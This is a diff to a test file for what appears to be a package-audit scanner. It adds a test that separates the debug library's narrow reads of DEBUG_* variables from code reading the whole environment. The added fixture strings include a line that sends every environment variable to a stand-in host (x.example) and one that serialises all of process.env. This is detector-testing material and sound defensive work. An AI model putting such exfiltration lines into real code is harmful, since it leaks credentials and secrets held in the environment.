@@ -165,3 +165,18 @@ test('an inline WebAssembly module (prisma, ssh2) is a low packed blob at load t
   assert.equal(fake?.severity, 'medium');
   assert.doesNotMatch(fake!.message, /WebAssembly/);
 });
+
+test("the debug library's read of its own DEBUG_* settings is not the whole environment; a read of every variable still is", () => {
+  const envSignal = (content: string) =>
+    ok(audit({ manifest: { name: 'e', version: '1.0.0', main: 'lib/a.js' }, files: [{ path: 'lib/a.js', content }] })).signals.find((s) => s.id === 'env-exfiltration');
+  const net = "const https = require('https');\n";
+  // debug's own code, readable and minified.
+  assert.equal(envSignal(`${net}exports.inspectOpts = Object.keys(process.env).filter((key) => /^debug_/i.test(key)).reduce((o, k) => o, {});\n`), undefined);
+  assert.equal(envSignal(`${net}t.inspectOpts=Object.keys(process.env).filter(function(e){return/^debug_/i.test(e)}).reduce(function(t,e){return t},{});\n`), undefined);
+  assert.equal(envSignal(`${net}const mine = Object.keys(process.env).filter(k => k.startsWith('PRISMA_'));\n`), undefined);
+  // Every variable, sent on: still taken.
+  assert.equal(envSignal(`${net}Object.keys(process.env).forEach((k) => https.get('https://x.example/?' + k + '=' + process.env[k]));\n`)?.severity, 'medium');
+  assert.equal(envSignal(`${net}const all = Object.keys(process.env).filter((k) => process.env[k]);\n`)?.severity, 'medium');
+  // A narrowed read first does not hide a whole one later in the file.
+  assert.equal(envSignal(`${net}const d = Object.keys(process.env).filter((key) => /^debug_/i.test(key));\nconst body = JSON.stringify(process.env);\n`)?.severity, 'medium');
+});
